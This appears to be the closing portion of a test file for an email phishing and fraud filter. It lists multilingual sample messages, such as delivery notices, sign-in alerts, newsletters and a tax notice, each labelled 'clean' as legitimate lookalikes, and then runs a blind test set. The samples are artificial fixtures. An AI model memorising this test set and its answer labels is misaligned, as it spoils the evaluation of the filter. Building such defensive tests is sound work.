    want: 'clean',
    raw: () =>
      text(
        { From: 'Phong Ke toan <ketoan@lachan.test>', Subject: 'Salary adjustment from January payroll' },
        'Dear colleagues,\n\nFollowing the new base salary decree, the salary adjustment will be applied from the January payroll, ' +
          'with the difference for the previous months paid in February. No action is needed from you. Questions: extension 215.\n\nAccounting',
      ),
  },
  {
    name: 'real DHL delivery notice',
    want: 'clean',
    raw: () =>
      html(
        { From: 'DHL Express <noreply@dhl.com>', Subject: 'DHL On Demand Delivery: your shipment 4471820391 is on its way' },
        '<p>Your shipment 4471820391 from Bonn will be delivered tomorrow between 09:00 and 12:00.</p>' +
          '<p><a href="https://www.dhl.com/vn-en/home/tracking/tracking-express.html?tracking-id=4471820391">Track your shipment</a></p>',
      ),
  },
  {
    name: 'real German duty notice from DHL',
    want: 'clean',
    raw: () =>
      html(
        { From: 'DHL Paket <noreply@dhl.de>', Subject: 'Ihre Sendung: Einfuhrabgaben' },
        '<p>Für Ihre Sendung 00340434161234567890 aus einem Nicht-EU-Land fallen Einfuhrabgaben von 4,20 EUR an, die bei der ' +
          'Zustellung bar oder per App bezahlt werden können.</p>' +
          '<p><a href="https://www.dhl.de/de/privatkunden/pakete-empfangen/verfolgen.html?piececode=00340434161234567890">Sendung verfolgen</a></p>',
      ),
  },
  {
    name: 'English public-governance newsletter',
    want: 'clean',
    raw: () =>
      html(
        { From: 'OECD Public Governance <newsletter@oecd.org>', Subject: 'Public Governance Newsletter - October 2025', 'List-Unsubscribe': '<https://www.oecd.org/newsletters/unsubscribe>' },
        '<h2>In this issue</h2><p>Trust survey 2025 results; digital government index; upcoming webinars.</p>' +
          '<p><a href="https://www.oecd.org/governance/trust-survey-2025.htm">Read more</a></p>' +
          '<p><a href="https://www.oecd.org/newsletters/unsubscribe">Unsubscribe</a></p>',
      ),
  },
  {
    name: 'French partner newsletter',
    want: 'clean',
    raw: () =>
      html(
        { From: 'Expertise France <lettre@expertisefrance.fr>', Subject: 'La lettre d\u2019Expertise France - octobre 2025', 'List-Unsubscribe': '<https://www.expertisefrance.fr/desinscription>' },
        '<p>Au sommaire : coopération numérique en Asie du Sud-Est, appel à projets 2026, portrait d\u2019experts.</p>' +
          '<p><a href="https://www.expertisefrance.fr/actualites">Lire la lettre</a> · <a href="https://www.expertisefrance.fr/desinscription">Se désinscrire</a></p>',
      ),
  },
  {
    // Word for word the forged alert held above, but from microsoft.com, a protected domain: its
    // own notice is not read for the credential thief's phrases (a forged From is for SPF/DKIM/DMARC).
    name: 'genuine Microsoft unusual sign-in alert',
    want: 'clean',
    raw: () =>
      html(
        { From: 'Microsoft account team <account-security-noreply@accountprotection.microsoft.com>', Subject: 'Microsoft account unusual sign-in activity' },
        '<p>We detected something unusual about a recent sign-in to the Microsoft account an**@lachan.test.</p>' +
          '<p>Country/region: Japan<br>Platform: iOS</p><p>If this was you, you can safely ignore this email.</p>' +
          button('https://account.live.com/activity', 'Review recent activity'),
      ),
  },
  {
    name: 'genuine Google security alert',
    want: 'clean',
    raw: () =>
      html(
        { From: 'Google <no-reply@accounts.google.com>', Subject: 'Security alert' },
        '<p>A new sign-in on Windows</p><p>an.nguyen.lachan@gmail.com</p><p>We noticed a new sign-in to your Google Account on a ' +
          'Windows device. If this was you, you don\u2019t need to do anything. If not, we\u2019ll help you secure your account.</p>' +
          button('https://accounts.google.com/AccountChooser?Email=an.nguyen.lachan@gmail.com&continue=https://myaccount.google.com/alert/nt/1', 'Check activity'),
      ),
  },
  {
    name: 'genuine Naver sign-in notice (Korean)',
    want: 'clean',
    raw: () =>
      html(
        { From: '네이버 <account_noreply@navercorp.com>', Subject: '[네이버] 새로운 환경에서 로그인 되었습니다' },
        '<p>회원님의 아이디로 새로운 환경에서 로그인되었습니다.</p><p>본인이 로그인한 경우 이 메일을 무시하셔도 됩니다.</p>' +
          '<p><a href="https://nid.naver.com/user2/help/myInfo">내정보 확인</a></p>',
      ),
  },
  {
    name: 'genuine Spanish tax notification',
    want: 'clean',
    raw: () =>
      html(
        { From: 'Agencia Tributaria <avisos@correo.aeat.es>', Subject: 'Aviso de notificación' },
        '<p>Le informamos de que tiene una notificación disponible en la Dirección Electrónica Habilitada única.</p>' +
          '<p>Puede acceder a través de la Sede electrónica: <a href="https://sede.agenciatributaria.gob.es">sede.agenciatributaria.gob.es</a></p>' +
          '<p>Este mensaje se ha generado automáticamente.</p>',
      ),
  },
  {
    name: 'real vacancy announcement from a partner',
    want: 'clean',
    raw: () =>
      text(
        { From: 'UNDP Viet Nam <registry.vn@undp.org>', Subject: 'Vacancy announcement: National Consultant on e-Government' },
        'Dear partners,\n\nUNDP Viet Nam is recruiting a National Consultant on e-Government (6 months). Please share with qualified ' +
          'candidates. Applications through https://jobs.undp.org only, deadline 30 October 2025.\n\nUNDP Viet Nam',
      ),
  },
  {
    name: 'own phone system voicemail with a WAV',
    want: 'clean',
    raw: () =>
      attachmentsMail([['voicemail-0912345678.wav', 'audio/wav', wav]], {
        from: 'Tong dai <voicemail@lachan.test>',
        subject: 'Voicemail from 0912345678 (0:32)',
        text: 'You have a new voicemail from 0912345678 on extension 215, 0:32 long. The recording is attached.',
      }),
  },
  {
    name: 'photographer asking for a credit, no link',
    want: 'clean',
    raw: () =>
      text(
        { From: 'Le Minh Tuan <tuan.photo@studio-tuan.example>', Subject: 'Photo credit on your news page' },
        'Hello,\n\nI noticed that your news article of 2 October uses my photo of the flood relief. I am happy for you to use it; could ' +
          'you please add the credit "Photo: Le Minh Tuan"? Thank you and best regards.',
      ),
  },
  {
    name: 'Indonesian ministry conference invitation',
    want: 'clean',
    raw: () =>
      text(
        { From: 'Kementerian PANRB <humas@menpan.go.id>', Subject: 'Undangan Forum Reformasi Birokrasi ASEAN 2026' },
        'Yth. Bapak/Ibu,\n\nDengan hormat, kami mengundang delegasi Bapak/Ibu untuk menghadiri Forum Reformasi Birokrasi ASEAN di ' +
          'Jakarta, 24-25 Februari 2026. Tidak ada biaya pendaftaran. Informasi: https://www.menpan.go.id/forum-asean-2026\n\nHormat kami,\nBiro Humas',
      ),
  },
];

runBlindSet({
  clamdUrl: inject('clamdUrl'),
  tallyName: 'blind-families-2',
  titles: ['blind set 2: phishing and fraud', 'blind set 2: the legitimate mail they resemble'],
  todayLabel: 'text alone cannot tell',
  phish,
  lookalikes,
});
